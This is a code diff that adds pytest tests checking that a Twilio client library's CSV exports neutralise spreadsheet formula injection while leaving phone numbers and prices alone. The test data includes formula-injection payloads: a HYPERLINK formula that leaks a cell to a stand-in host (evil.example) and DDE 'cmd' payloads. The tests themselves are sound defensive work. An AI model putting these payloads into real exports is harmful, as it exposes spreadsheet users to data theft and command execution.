@@ -14,6 +14,8 @@ import pytest
 import twiliorm
 from twiliorm import Call, Message
 from twiliorm.bulk import Progress
+from twiliorm.bulk.export import neutralised
+from twiliorm.cli import main
 from twiliorm.sandbox import Sandbox
 from twiliorm.transport import Request, Response
 
@@ -170,3 +172,94 @@ def test_a_record_listed_twice_is_exported_once(sandbox: Sandbox, client: twilio
     sids = [json.loads(line)["sid"] for line in out.getvalue().splitlines()]
     assert len(sids) == len(set(sids)) == 30
     assert report.matched == 30 and report.pages == 3
+
+
+# --- cells a spreadsheet would run -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "-",
+]
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        *((f, "'" + f) for f in FORMULAS),
+        ("+15558675310", "+15558675310"),  # E.164: a spreadsheet reads a number, runs nothing
+        ("-0.00750", "-0.00750"),
+        ("-3", "-3"),
+        ("+1.5e3", "+1.5e3"),
+        ("-.5", "-.5"),
+        ("+1 (555) 867-5310", "'+1 (555) 867-5310"),  # not a plain number: a formula to Excel
+        ("-5 degrees", "'-5 degrees"),
+        ("1+1", "1+1"),
+        ("hello = world", "hello = world"),
+        (" =1+2", " =1+2"),
+        ("", ""),
+    ],
+)
+def test_neutralised(cell: str, expected: str) -> None:
+    assert neutralised(cell) == expected
+
+
+@pytest.fixture
+def formulas(sandbox: Sandbox, client: twiliorm.Client) -> list[str]:
+    sandbox.seed(3, 0)
+    for body in FORMULAS:
+        Message.objects.create(to="+15558675310", from_="+14155550100", body=body)
+    return FORMULAS
+
+
+def csv_cells(text: str, column: str) -> list[str]:
+    return [row[column] for row in csv.DictReader(io.StringIO(text))]
+
+
+def test_a_csv_export_neutralises_formulas_but_not_numbers(formulas: list[str]) -> None:
+    out = io.StringIO()
+    Message.objects.export(out, fields=["to", "body", "price"])
+    bodies = csv_cells(out.getvalue(), "body")
+    assert {"'" + f for f in formulas} <= set(bodies)
+    assert not set(formulas) & set(bodies)
+    assert all(to.startswith("+1") for to in csv_cells(out.getvalue(), "to"))
+    assert "-0.00750" in csv_cells(out.getvalue(), "price")
+    raw = io.StringIO()
+    Message.objects.export(raw, fields=["body"], raw_formulas=True)
+    assert set(formulas) <= set(csv_cells(raw.getvalue(), "body"))
+
+
+@pytest.mark.parametrize("fmt", ["json", "jsonl"])
+def test_json_exports_stay_raw(formulas: list[str], fmt: str, tmp_path: Path) -> None:
+    target = tmp_path / f"messages.{fmt}"
+    Message.objects.export(target, fmt, fields=["body"])
+    text = target.read_text()
+    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
+    assert set(formulas) <= {row["body"] for row in rows}
+
+
+def test_the_cli_neutralises_csv_unless_raw_formulas(
+    formulas: list[str],
+    sandbox: Sandbox,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setenv("TWILIO_ACCOUNT_SID", sandbox.account_sid)
+    monkeypatch.setenv("TWILIO_AUTH_TOKEN", sandbox.auth_token)
+    monkeypatch.setenv("TWILIO_API_BASE_URL", sandbox.base_url)
+    commands = (
+        ["export", "messages", "--fields", "body"],
+        ["ls", "messages", "--format", "csv", "--fields", "body", "--limit", "0"],
+    )
+    for command in commands:
+        assert main(command) == 0
+        assert {"'" + f for f in formulas} <= set(csv_cells(capsys.readouterr().out, "body"))
+        assert main([*command, "--raw-formulas"]) == 0
+        assert set(formulas) <= set(csv_cells(capsys.readouterr().out, "body"))
+    sid = next(m.sid for m in Message.objects.all() if m.body == formulas[0])
+    assert main(["get", "messages", str(sid), "--format", "csv", "--fields", "body"]) == 0
+    assert csv_cells(capsys.readouterr().out, "body") == ["'" + formulas[0]]
